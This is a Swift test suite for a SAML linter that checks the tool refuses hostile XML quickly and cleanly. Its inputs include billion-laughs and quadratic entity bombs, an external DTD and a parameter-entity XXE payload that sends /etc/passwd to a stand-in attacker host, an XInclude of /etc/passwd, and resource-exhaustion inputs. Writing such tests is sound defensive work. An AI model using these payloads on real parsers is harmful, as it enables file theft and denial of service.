import Foundation
import SAMLLint
import Testing

/// Inputs meant to hurt: each must end with a clear finding or error, fast and in bounded memory,
/// and never stop the other inputs of the run from being linted.
struct HostileCase: CustomTestStringConvertible, Sendable {
    let name: String
    let make: @Sendable () -> [UInt8]
    /// The rule id the input must produce, or nil when it must lint without an input error.
    let expected: String?
    /// At most this many findings on it, when the hurt was a report growing with the input.
    var maxFindings: Int? = nil
    var testDescription: String { name }

    static let response = ExampleSAML.response(attributes: [.init("email", ["jane@example.com"])])

    static let all: [HostileCase] = [
        HostileCase(name: "billion laughs", make: { Array(billionLaughs.utf8) }, expected: "input/doctype-refused"),
        HostileCase(name: "quadratic blow-up", make: {
            let big = String(repeating: "a", count: 50_000)
            let uses = String(repeating: "&a;", count: 50_000)
            return Array("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"\(big)\">]><r>\(uses)</r>".utf8)
        }, expected: "input/doctype-refused"),
        HostileCase(name: "external DTD", make: { Array("<!DOCTYPE r SYSTEM \"http://attacker.invalid/a.dtd\"><r/>".utf8) }, expected: "input/doctype-refused"),
        HostileCase(name: "parameter entities", make: {
            Array("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % a SYSTEM \"file:///etc/passwd\"><!ENTITY % b \"<!ENTITY c SYSTEM 'http://attacker.invalid/?%a;'>\">%b;]><r>&c;</r>".utf8)
        }, expected: "input/doctype-refused"),
        HostileCase(name: "XInclude is not processed", make: {
            Array(response.replacingOccurrences(of: "</samlp:Response>", with: "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/></samlp:Response>").utf8)
        }, expected: nil),
        HostileCase(name: "100,000-deep nesting", make: {
            Array((String(repeating: "<a>", count: 100_000) + String(repeating: "</a>", count: 100_000)).utf8)
        }, expected: "input/malformed-xml"),
        HostileCase(name: "100 MB attribute value", make: {
            let head = Array(response.replacingOccurrences(of: "jane@example.com", with: "@@").utf8)
            let cut = head.firstIndex(of: UInt8(ascii: "@"))!
            return Array(head[..<cut]) + [UInt8](repeating: UInt8(ascii: "x"), count: 100 << 20) + Array(head[(cut + 2)...])
        }, expected: "input/too-large"),
        HostileCase(name: "1 million attributes", make: {
            let attributes = String(repeating: "<saml:Attribute Name=\"a\"><saml:AttributeValue>v</saml:AttributeValue></saml:Attribute>", count: 1_000_000)
            return Array(response.replacingOccurrences(of: "<saml:AttributeStatement>", with: "<saml:AttributeStatement>" + attributes).utf8)
        }, expected: "input/too-large"),
        // libxml2 2.9 checks a start tag's attributes pair by pair: 100,000 took 93 s unguarded.
        HostileCase(name: "100,000 XML attributes on one element", make: { crowdedTag((0..<100_000).map { "a\($0)=\"\"" }) }, expected: "input/too-large"),
        HostileCase(name: "100,000 namespace declarations on one element", make: {
            crowdedTag((0..<100_000).map { "xmlns:n\($0)=\"urn:n:\($0)\"" })
        }, expected: "input/too-large"),
        HostileCase(name: "100,000 attributes on one element, in UTF-16", make: {
            let text = String(decoding: crowdedTag((0..<100_000).map { "a\($0)=\"\"" }), as: UTF8.self)
            return [0xFF, 0xFE] + Array(text.utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        }, expected: "input/too-large"),
        HostileCase(name: "100,000 attributes on one element, in UTF-7", make: {
            // `<a a0="" ...>` with the markup written as UTF-7 base64 runs, so no byte of it is `<` or `"`.
            let attributes = (0..<100_000).map { " b\($0)+AD0AIgAi-" }.joined()
            return Array("<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n+ADw-a\(attributes)/+AD4-\n".utf8)
        }, expected: "input/too-large"),
        // Under 32 KiB nothing is scanned: the most attributes such a file holds cost libxml2 ~30 ms.
        HostileCase(name: "3,000 attributes in a file under 32 KiB, not scanned", make: {
            let bytes = crowdedTag((0..<3_000).map { "b\(String($0, radix: 16))=\"\"" })
            precondition(bytes.count < 32 * 1024)
            return bytes
        }, expected: nil),
        HostileCase(name: "1,000 attributes on one element, within the limit", make: {
            Array(response.replacingOccurrences(of: "<saml:AttributeStatement>", with: "<saml:AttributeStatement " + (0..<1_000).map { "a\($0)=\"\"" }.joined(separator: " ") + ">").utf8)
        }, expected: nil),
        // xmlsec1 registers every namespace in scope of a signature for each Reference, pair by pair.
        HostileCase(name: "300 namespace declarations in scope", make: {
            let open = (0..<100).map { level in "<x" + (0..<3).map { " xmlns:n\(level)x\($0)=\"urn:n:\(level):\($0)\"" }.joined() + ">" }.joined()
            let close = String(repeating: "</x>", count: 100)
            return Array(response.replacingOccurrences(of: "<saml:AttributeStatement>", with: open + close + "<saml:AttributeStatement>").utf8)
        }, expected: "input/too-large"),
        // Each duplicate's finding listed every element carrying the ID: quadratic, minutes.
        HostileCase(name: "100,000 elements with one ID", make: {
            let attributes = (0..<100_000).map { "<saml:Attribute Name=\"a\($0)\" ID=\"dup\"><saml:AttributeValue>v</saml:AttributeValue></saml:Attribute>" }.joined()
            return Array(response.replacingOccurrences(of: "<saml:AttributeStatement>", with: "<saml:AttributeStatement>" + attributes).utf8)
        }, expected: nil, maxFindings: 20),
        HostileCase(name: "100,000 attributes with one Name", make: {
            let attributes = String(repeating: "<saml:Attribute Name=\"email\"><saml:AttributeValue>a@example.com</saml:AttributeValue></saml:Attribute>", count: 100_000)
            return Array(response.replacingOccurrences(of: "<saml:AttributeStatement>", with: "<saml:AttributeStatement>" + attributes).utf8)
        }, expected: nil, maxFindings: 20),
        HostileCase(name: "20,000 distinct attributes within the limit", make: {
            let attributes = (0..<20_000).map { "<saml:Attribute Name=\"a\($0)\"><saml:AttributeValue>v\($0)</saml:AttributeValue></saml:Attribute>" }.joined()
            return Array(response.replacingOccurrences(of: "<saml:AttributeStatement>", with: "<saml:AttributeStatement>" + attributes).utf8)
        }, expected: nil),
        HostileCase(name: "invalid UTF-8", make: {
            var bytes = Array(response.utf8)
            let index = bytes.firstIndex(of: UInt8(ascii: "j"))!
            bytes[index] = 0xC3
            bytes[index + 1] = 0x28
            return bytes
        }, expected: "input/malformed-xml"),
        HostileCase(name: "UTF-16 with BOM", make: {
            [0xFF, 0xFE] + Array(("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + response).utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        }, expected: nil),
        HostileCase(name: "NUL bytes", make: { Array("<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">\u{0}\u{0}</samlp:Response>".utf8) }, expected: "input/malformed-xml"),
        HostileCase(name: "truncated base64", make: {
            let encoded = Data(response.utf8).base64EncodedString()
            return Array(encoded.prefix(encoded.count / 2 + 1).utf8)
        }, expected: "input/malformed-xml"),
        HostileCase(name: "base64 of binary junk", make: { Array(Data((0..<3000).map { UInt8(($0 * 7919) % 251) }).base64EncodedString().utf8) }, expected: "input/undecodable"),
        HostileCase(name: "empty file", make: { [] }, expected: "input/malformed-xml"),
        HostileCase(name: "whitespace only", make: { Array("  \n\n\t ".utf8) }, expected: "input/malformed-xml"),
    ]

    /// The example response with these attributes on its Assertion element.
    static func crowdedTag(_ attributes: [String]) -> [UInt8] {
        Array(response.replacingOccurrences(of: "<saml:Assertion ", with: "<saml:Assertion " + attributes.joined(separator: " ") + " ").utf8)
    }

    static let billionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
        <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
        <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
        <lolz>&lol9;</lolz>
        """
}

@Suite("Hostile inputs")
struct HostileInputTests {
    @Test("ends with a clear outcome, and the next input is still linted", arguments: HostileCase.all)
    func hostile(_ hostile: HostileCase) throws {
        let bytes = hostile.make()
        let linter = Linter(context: LintContext(now: TestSupport.fixedNow))
        let good = Array(HostileCase.response.utf8)
        let start = Date()
        let report = linter.lint(inputs: [.memory(name: "hostile", bytes: bytes), .memory(name: "good", bytes: good)], parallel: false)
        let seconds = Date().timeIntervalSince(start)
        print("\(hostile.name): \(String(format: "%.3f", seconds)) s, outcome \(report.inputs[0].error?.ruleId ?? "linted")")
        // Not a benchmark: a hang guard, twenty times the slowest case's debug-build time. A batch rule
        // that went quadratic on 100,000 Names once took 395 s here and still passed every other check.
        #expect(seconds < 60, "\(hostile.name) took \(Int(seconds)) s: a hostile input must not hold up the run")
        #expect(report.inputs.count == 2)
        if let expected = hostile.expected {
            #expect(report.inputs[0].error?.ruleId == expected, "\(hostile.name): \(String(describing: report.inputs[0].error))")
            #expect(report.findings.contains { $0.ruleId == expected && $0.location.path == "hostile" })
            #expect(report.exitCode(failOn: .error) == 2)
        } else {
            #expect(report.inputs[0].error == nil, "\(hostile.name): \(String(describing: report.inputs[0].error))")
        }
        if let most = hostile.maxFindings {
            #expect(report.findings.filter { $0.location.path == "hostile" }.count <= most)
        }
        #expect(report.inputs[1].error == nil && report.inputs[1].messages.count == 1, "the good input after it was not linted")
    }

    @Test func symlinkLoopInAFolderDoesNotHang() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("samllint-loop-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder.appendingPathComponent("a"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("a/loop").path, withDestinationPath: folder.path)
        try Data(HostileCase.response.utf8).write(to: folder.appendingPathComponent("a/r.xml"))
        defer { try? FileManager.default.removeItem(at: folder) }
        let sources = FileDiscovery().sources(for: [folder.path])
        #expect(sources.count == 1)
    }

    /// A sparse 8 GiB file is refused from its size, unread; a file another thread keeps growing
    /// while it is read ends as bytes or as too large, never a hang; the good input after both is linted.
    @Test func hugeAndGrowingFilesEndCleanly() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("samllint-grow-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let sparse = folder.appendingPathComponent("sparse.xml").path
        #expect(FileManager.default.createFile(atPath: sparse, contents: nil))
        let handle = try #require(FileHandle(forWritingAtPath: sparse))
        try handle.truncate(atOffset: 8 << 30)
        try handle.close()
        let started = Date()
        let refused = InputSource.file(sparse).read(limit: 16 << 20)
        #expect(Date().timeIntervalSince(started) < 1)
        if case let .failure(error) = refused { #expect(error.ruleId == "input/too-large") } else { Issue.record("an 8 GiB file was read") }

        let growing = folder.appendingPathComponent("growing.xml").path
        try Data("<a>".utf8).write(to: URL(fileURLWithPath: growing))
        let finished = DispatchSemaphore(value: 0)
        let writer = Thread {
            defer { finished.signal() }
            guard let out = FileHandle(forWritingAtPath: growing) else { return }
            out.seekToEndOfFile()
            let chunk = Data(repeating: UInt8(ascii: "x"), count: 64 * 1024)
            for _ in 0..<128 { out.write(chunk) }  // 8 MiB in 64 KiB steps, racing the reader
            try? out.close()
        }
        writer.start()
        let limit = 1 << 20
        for _ in 0..<20 {
            switch InputSource.file(growing).read(limit: limit) {
            case let .success(bytes): #expect(bytes.count <= limit && bytes.starts(with: Array("<a>".utf8)))
            case let .failure(error): #expect(error.ruleId == "input/too-large")
            }
        }
        let good = TestSupport.repositoryRoot.appendingPathComponent("fixtures/responses/okta-clean.xml").path
        let report = Linter(context: LintContext(now: TestSupport.fixedNow)).lint(inputs: [.file(growing), .file(good)])
        #expect(report.inputs.count == 2)
        #expect(report.inputs[1].error == nil && report.inputs[1].messages.count == 1)
        #expect(finished.wait(timeout: .now() + 30) == .success)
    }

    @Test func fifoAndDanglingLinksAreReportedNotRead() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("samllint-fifo-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let fifo = folder.appendingPathComponent("pipe.xml").path
        #expect(mkfifo(fifo, 0o600) == 0)
        let dangling = folder.appendingPathComponent("gone.xml").path
        try FileManager.default.createSymbolicLink(atPath: dangling, withDestinationPath: "/nonexistent/samllint")
        let linter = Linter(context: LintContext(now: TestSupport.fixedNow))
        let report = linter.lint(inputs: [.file(fifo), .file(dangling)])
        #expect(report.inputs.map { $0.error?.ruleId } == ["input/unreadable", "input/unreadable"])
    }

    /// A Reference with 3,000 canonicalizations of a 1 MB assertion: xmlsec1 keeps every Transform's
    /// output (it took 13 s and 3.3 GB). The message's verification budget refuses it unverified,
    /// with the reason, and the message is linted.
    @Test func signatureAskingForThousandsOfTransformsIsNotVerified() throws {
        let signed = try String(contentsOf: TestSupport.repositoryRoot.appendingPathComponent("fixtures/signature/valid-assertion-signed.xml"), encoding: .utf8)
        let transform = "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>"
        #expect(signed.contains(transform) && signed.contains("<saml:AttributeStatement>"))
        let padding = "<saml:Attribute Name=\"pad\"><saml:AttributeValue>" + String(repeating: "x", count: 1 << 20) + "</saml:AttributeValue></saml:Attribute>"
        let hostile = signed.replacingOccurrences(of: transform, with: String(repeating: transform, count: 3_000))
            .replacingOccurrences(of: "<saml:AttributeStatement>", with: "<saml:AttributeStatement>" + padding)
        let start = Date()
        let report = Linter(context: LintContext(now: TestSupport.fixedNow)).lint(inputs: [.memory(name: "hostile", bytes: Array(hostile.utf8))], parallel: false)
        print("3,000 transforms over 1 MB: \(String(format: "%.3f", Date().timeIntervalSince(start))) s")
        #expect(report.inputs[0].error == nil)
        let invalid = report.findings.filter { $0.ruleId == "signature/invalid" }
        #expect(invalid.count == 1 && invalid[0].message.contains("not verified"), "\(invalid.map(\.message))")
    }

    /// Files that open but cannot be read, or cannot be opened: each is `input/unreadable` with the
    /// reason, and the good input after them is linted. `/proc/self/mem` fails its first read (EIO);
    /// a file with mode 000 is refused to anyone but root (root reads it, so there it is linted).
    @Test func unreadableFilesAreReportedAndTheRestLinted() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("samllint-unreadable-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let locked = folder.appendingPathComponent("locked.xml").path
        try Data(HostileCase.response.utf8).write(to: URL(fileURLWithPath: locked))
        #expect(chmod(locked, 0) == 0)
        let good = TestSupport.repositoryRoot.appendingPathComponent("fixtures/responses/okta-clean.xml").path
        let linter = Linter(context: LintContext(now: TestSupport.fixedNow))
        let report = linter.lint(inputs: [.file("/proc/self/mem"), .file(locked), .file(good)])
        #expect(report.inputs.count == 3)
        #expect(report.inputs[0].error?.ruleId == "input/unreadable")
        #expect(report.inputs[0].error?.message.contains("Input/output error") == true)
        if geteuid() == 0 {
            #expect(report.inputs[1].error == nil && report.inputs[1].messages.count == 1)
        } else {
            #expect(report.inputs[1].error?.ruleId == "input/unreadable")
        }
        #expect(report.inputs[2].error == nil && report.inputs[2].messages.count == 1)
    }

    /// A file named on its own and again inside a named folder, or under two spellings of its path,
    /// is linted once, where it first appears.
    @Test func aFileReachedTwiceIsLintedOnce() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("samllint-twice-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder.appendingPathComponent("sub"), withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        for name in ["a.xml", "sub/b.xml"] {
            try Data(HostileCase.response.utf8).write(to: folder.appendingPathComponent(name))
        }
        let a = folder.appendingPathComponent("a.xml").path
        let sources = FileDiscovery().sources(for: [a, folder.path, folder.path + "/sub/../a.xml", folder.path + "/./sub//b.xml", folder.path + "/sub"])
        #expect(sources.map(\.displayPath) == [a, folder.path + "/sub/b.xml"])
    }

    @Test func parallelAndSerialRunsGiveTheSameBytes() throws {
        guard let root = TestSupport.corpusRoot else {
            print("skipped: ../shared/corpus is absent")
            return
        }
        let sources = FileDiscovery().sources(for: [root.path])
        let linter = Linter(context: LintContext(now: TestSupport.fixedNow))
        let parallel = JSONReporter().render(linter.lint(inputs: sources, parallel: true), options: ReportOptions())
        let serial = JSONReporter().render(linter.lint(inputs: sources, parallel: false), options: ReportOptions())
        #expect(parallel == serial)
        #expect(sources.count > 500)
    }

    @Test func splicedJSONReportEqualsOnePass() throws {
        guard let root = TestSupport.corpusRoot else {
            print("skipped: ../shared/corpus is absent")
            return
        }
        let report = Linter(context: LintContext(now: TestSupport.fixedNow)).lint(inputs: FileDiscovery().sources(for: [root.path]))
        #expect(report.findings.count + report.inputs.count >= JSONReporter.parallelThreshold)
        let spliced = JSONReporter().render(report, options: ReportOptions())
        #expect(spliced == JSONReporter.encodeWithFoundation(report))
        #expect(spliced.contains("\n  \"inputs\" : [\n    {"))
    }
}
